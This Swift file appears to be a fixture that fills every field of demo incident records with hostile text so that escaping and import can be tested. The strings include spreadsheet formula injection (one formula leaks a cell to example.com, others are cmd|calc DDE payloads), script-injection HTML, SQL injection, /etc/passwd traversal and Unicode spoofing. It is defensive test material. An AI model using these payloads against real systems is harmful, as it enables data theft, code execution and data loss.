import IncidentModel

extension DemoPlan {
    /// Closed incidents whose every free text tries to become something else: a formula in a spreadsheet, markup in a page, a
    /// link or table row in Markdown, another statement in SQL, or text that reads differently from what it is.
    ///
    /// Times and words from closed lists are valid, so an import takes every record. NUL is left out: PostgreSQL's `text`
    /// cannot hold it, and readers refuse it before it gets there.
    package static let hostile: [IncidentRecord] = hostileTexts.enumerated().map { hostileRecord($0 + 1, text: $1) }

    /// The texts that `hostile` puts into every field; the last one makes a title of exactly 1,000 characters.
    package static let hostileTexts: [String] = [
        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "<script>alert('sitrep')</script>",
        "\"><img src=x onerror=alert(1)>",
        "</td></tr></table><style>body{display:none}</style>",
        "<!-- ]]> --> &amp; &lt;b&gt; &#x3C;i&#x3E;",
        "javascript:alert(document.domain)",
        "[click](javascript:alert(1)) ![picture](http://example.com/pixel.png)",
        "| a | b |\n|---|---|\n| **bold** | `code` |",
        "# heading\n\n- list\n> quote\n```\nfence",
        "{{title}} {{{title}}} {{>document}} ${HOME} %s %n \\(name)",
        "'; DROP TABLE incident; --",
        "Robert\\'); select pg_sleep(10); \\x00 $1 $$ $body$",
        "invoice\u{202E}fdp.exe \u{2066}isolated\u{2069} \u{200F}mark",
        "zero\u{200B}width\u{FEFF}joined\u{00AD}soft",
        "\u{1F9D1}\u{1F3FD}\u{200D}\u{1F692}\u{1F3F4}\u{E0067}\u{E0062}\u{E007F} e\u{301}\u{327} \u{FB03}",
        "line one\r\nline two\rline three\u{2028}line four\u{0085}end",
        "bell\u{07} escape\u{1B}[31mred\u{1B}[0m delete\u{7F} vertical\u{0B}tab",
        "\"quoted\", 'single', ``double`` ; semicolon , comma\ttab \\ backslash",
        "\u{0645}\u{0631}\u{062D}\u{0628}\u{0627} \u{05E9}\u{05DC}\u{05D5}\u{05DD} \u{4F60}\u{597D} \u{3053}\u{3093}",
        "NULL",
        "../../../../etc/passwd",
        longTitle,
    ]

    private static let longTitle: String = {
        let beginning = "A title that fills its limit "
        return beginning + String(repeating: "w", count: 1_000 - beginning.count)
    }()

    private static func hostileRecord(_ number: Int, text: String) -> IncidentRecord {
        let day = DemoPlan.start(of: january2024).advanced(bySeconds: Int64(number) * 86_400)
        func after(_ hours: Int64) -> Instant { day.advanced(bySeconds: hours * 3_600) }
        var record = IncidentRecord(origin: DemoGenerator.origin, sourceKey: "DEMO-HOSTILE-\(number)", title: text)
        record.summary = text
        record.severity = .high
        record.category = text
        record.source = text
        record.tlp = .red
        record.owner = text
        record.tags = [text]
        record.phase = .closed
        record.disposition = .truePositive
        record.assertions = hostileStatements(text, after)
        let note = TimelineRecord(at: after(2), kind: "note", actor: text, text: text)
        var privileged = note
        privileged.privileged = true
        record.timeline = [note, privileged]
        var task = TaskRecord(title: text)
        task.owner = text
        task.phase = .containment
        task.done = after(5)
        record.tasks = [task]
        var action = ActionRecord(title: text, kind: .process)
        action.owner = text
        action.done = after(60)
        action.verified = after(70)
        action.verifiedBy = text
        action.controls = [ControlReference(control: hostileControl, label: text, title: text)]
        record.actions = [action]
        record.techniques = ["T1566.001"]
        record.assets = [NamedRecord(kind: text, name: text, note: text)]
        record.observables = [NamedRecord(kind: text, name: text, note: text)]
        record.escalations = [EscalationRecord(at: after(3), level: text, reason: text, by: text)]
        record.review = hostileReview(text, after)
        record.controls = [hostileStatement(text, after)]
        record.risks = [hostileRisk(text, after)]
        record.attributes = [text: text]
        return record
    }

    /// Of a framework that nobody has.
    private static let hostileControl = "urn:sitrep:framework:hostile:1:control:h-1"

    private static func hostileStatement(_ text: String, _ after: (Int64) -> Instant) -> ControlRecord {
        var statement = ControlRecord(control: hostileControl, label: text, title: text, outcome: "failed")
        statement.confidence = .estimated
        statement.evidence = [text, text]
        statement.note = text
        statement.recordedAt = after(41)
        statement.recordedBy = text
        statement.confirmedAt = after(42)
        statement.confirmedBy = text + " 2"
        return statement
    }

    private static func hostileRisk(_ text: String, _ after: (Int64) -> Instant) -> RiskRecord {
        var risk = RiskRecord(risk: text)
        risk.loss = AmountRecord(minorUnits: 1, currency: "EUR")
        risk.recordedAt = after(41)
        risk.recordedBy = text
        var appetite = AppetiteRecord(minorUnits: 2, currency: "EUR")
        appetite.recordedAt = after(41)
        appetite.recordedBy = text
        risk.appetite = appetite
        return risk
    }

    private static func hostileStatements(_ text: String, _ after: (Int64) -> Instant) -> [AssertionRecord] {
        let steps: [(Milestone, Int64)] = [
            (.occurred, 0), (.detected, 1), (.reported, 2), (.acknowledged, 2), (.declared, 3), (.contained, 5),
            (.eradicated, 8), (.recovered, 12), (.reviewed, 40), (.closed, 50),
        ]
        return steps.map { milestone, hours in
            var statement = AssertionRecord(milestone, at: after(hours))
            statement.source = text
            statement.reason = text
            statement.recordedBy = text
            statement.recordedAt = after(hours)
            return statement
        }
    }

    /// The approver's text differs from the author's, because a second person has to approve.
    private static func hostileReview(_ text: String, _ after: (Int64) -> Instant) -> ReviewRecord {
        var review = ReviewRecord(author: text)
        review.startedAt = after(20)
        review.approver = text + " 2"
        review.approvedAt = after(40)
        review.whatHappened = text
        review.detection = text
        review.whatWorked = text
        review.whatDidNot = text
        review.rootCauses = [text, text + "\n" + text]
        review.lessons = [text, text + "\n" + text]
        return review
    }
}
